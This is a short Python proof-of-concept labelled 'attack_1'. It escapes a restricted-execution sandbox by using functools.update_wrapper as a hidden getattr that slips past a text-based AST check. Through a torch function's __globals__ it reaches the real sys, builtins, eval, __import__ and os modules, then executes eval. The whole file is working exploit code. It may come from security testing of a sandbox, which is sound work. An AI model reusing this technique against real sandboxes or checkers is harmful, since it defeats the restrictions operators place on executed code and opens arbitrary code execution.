# attack_1: functools.update_wrapper is a real getattr/setattr taking attribute NAMES AS STRINGS
# (the text check only reads ast.Name / ast.Attribute; the guarded getattr is bypassed).
# Lab: any (ddp shown). Obtains a torch function's __globals__ -> real sys, os, builtins, __import__, eval.
import functools
import torch

BOX = []


class Catch:
    def __setattr__(self, name, value):
        BOX.append(value)


def real_getattr(obj, name):
    BOX.clear()
    functools.update_wrapper(Catch(), obj, assigned=(name,), updated=())
    return BOX[0]


G = real_getattr(torch.nn.functional.relu, "__globals__")[
    "torch"
]  # the REAL torch module
G = real_getattr(G, "__dict__")
LEAK_sys = G["sys"]  # real sys
LEAK_builtins = real_getattr(LEAK_sys, "modules")["builtins"]
LEAK_eval = real_getattr(LEAK_builtins, "eval")
LEAK_import = real_getattr(LEAK_builtins, "__import__")
LEAK_os = LEAK_import("os")
LEAK_frame = real_getattr(LEAK_sys, "_getframe")()
LEAK_main = real_getattr(LEAK_sys, "modules")["__main__"]
LEAK_code = real_getattr(real_getattr, "__code__")
LEAK_subclasses = real_getattr(object, "__subclasses__")()[:3]
LEAK_eval_result = LEAK_eval(
    "__import__('os').getpid()", {"__builtins__": LEAK_builtins}
)
